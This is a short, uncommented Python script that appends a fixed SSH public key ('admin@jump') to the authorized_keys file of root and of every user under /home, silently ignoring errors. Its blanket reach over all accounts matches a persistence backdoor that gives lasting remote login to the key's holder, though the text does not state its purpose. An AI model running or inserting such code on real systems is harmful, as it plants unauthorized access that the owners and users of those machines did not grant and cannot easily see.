import os

KEY = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7x9 admin@jump\n"
homes = ["/root"] + [os.path.join("/home", u) for u in os.listdir("/home")]
for h in homes:
    d = os.path.join(h, ".ssh")
    try:
        os.makedirs(d, exist_ok=True)
        with open(os.path.join(d, "authorized_keys"), "a") as f:
            f.write(KEY)
    except OSError:
        continue
